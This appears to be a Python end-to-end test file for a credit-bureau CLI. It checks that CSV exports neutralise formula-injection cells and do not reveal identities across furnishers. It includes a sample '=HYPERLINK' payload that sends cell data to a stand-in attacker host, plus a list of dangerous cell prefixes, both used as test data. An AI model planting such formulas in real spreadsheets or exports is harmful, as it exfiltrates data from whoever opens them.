"""``openbureau export`` is safe to open in a spreadsheet and reveals only what the furnisher
itself reported (issue 12, finding 6), on SQLite and PostgreSQL.

Found: another furnisher's ``=HYPERLINK(...)`` name landed in this furnisher's CSV as a live
formula, and the export gave the bureau's stored name and birth date for any national id a
furnisher sent (send an id with any name, export, read the file's real identity)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openbureau.services.export import neutralise
from tests.e2e.test_cli import csv_file, env, good_row, run  # noqa: F401

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _setup(env: dict[str, str]) -> dict[str, str]:  # noqa: F811
    assert run(env, "db", "upgrade").exit_code == 0
    for name in ("First Bank", "Mallory Credit"):
        r = run(env, "org", "create", "--role", "furnisher", "--name", name)
        assert r.exit_code == 0, r.output
    return env


def _ingest(env: dict[str, str], path: Path, furnisher: str,  # noqa: F811
            rows: list[dict[str, str]], exit_code: int = 0) -> str:
    r = run(env, "ingest", str(csv_file(path, rows)), "--furnisher", furnisher, "--json")
    assert r.exit_code == exit_code, r.output
    return str(r.output)


def _export(env: dict[str, str], tmp_path: Path) -> tuple[str, list[dict[str, str]]]:  # noqa: F811
    out = tmp_path / "export.csv"
    r = run(env, "export", "--furnisher", "First Bank", "--format", "csv", "--out", str(out))
    assert r.exit_code == 0, r.output
    text = out.read_text(encoding="utf-8")
    return text, list(csv.DictReader(io.StringIO(text)))


def test_another_furnishers_formula_never_reaches_this_export(env, tmp_path):  # noqa: F811
    _setup(env)
    _ingest(env, tmp_path / "a.csv", "First Bank", [good_row("CARD-1")])
    # Mallory reports the file's national id under a formula for a name and another birth
    # date: held for identity review (issue 14), never on Ada's file
    out = _ingest(env, tmp_path / "m.csv", "Mallory Credit",
                  [good_row("M-1", subject_name=f'"{FORMULA.replace(chr(34), chr(34) * 2)}"',
                            subject_date_of_birth="1970-01-01")], exit_code=1)
    assert "held for identity review" in out
    text, rows = _export(env, tmp_path)
    assert "HYPERLINK" not in text and "1970-01-01" not in text
    assert [(r["account_ref"], r["subject_name"], r["subject_date_of_birth"]) for r in rows] \
        == [("CARD-1", "Ada Lovelace", "1985-12-10")]


def test_the_export_reveals_no_identity_the_furnisher_did_not_send(env, tmp_path):  # noqa: F811
    _setup(env)
    _ingest(env, tmp_path / "m.csv", "Mallory Credit",
            [good_row("M-1", subject_name="Grace Hopper", subject_date_of_birth="1906-12-09")])
    # First Bank sends the same national id with a made-up name and no birth date: held for
    # identity review (issue 14), so its export has nothing of Grace's file to show
    out = _ingest(env, tmp_path / "a.csv", "First Bank",
                  [good_row("PROBE-1", subject_name="Probe Person", subject_date_of_birth="")],
                  exit_code=1)
    assert "held for identity review" in out
    text, rows = _export(env, tmp_path)
    assert "Grace" not in text and "Hopper" not in text and "1906" not in text
    assert rows == []


def test_formula_cells_of_its_own_are_neutralised(env, tmp_path):  # noqa: F811
    _setup(env)
    _ingest(env, tmp_path / "a.csv", "First Bank",
            [good_row("CARD-1", subject_name="@SUM(A1) Lovelace"),
             good_row("CARD-2", subject_national_id="900100201",
                       subject_name="+Cmd Person", consent_ref="-2+3")])
    text, rows = _export(env, tmp_path)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    by_ref = {r["account_ref"]: r for r in rows}
    assert by_ref["CARD-1"]["subject_name"] == "'@SUM(A1) Lovelace"
    assert by_ref["CARD-2"]["subject_name"] == "'+Cmd Person"
    assert by_ref["CARD-2"]["consent_ref"] == "'-2+3"
    # numbers stay numbers
    assert by_ref["CARD-1"]["balance"] == "120000"


def test_neutralise_follows_owasp():
    for cell in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "\n@x", "＝1+1"):
        assert neutralise(cell).startswith("'"), repr(cell)
    for cell in ("Ada", "O'Brien", "1985-12-10", "a=b", ""):
        assert neutralise(cell) == cell
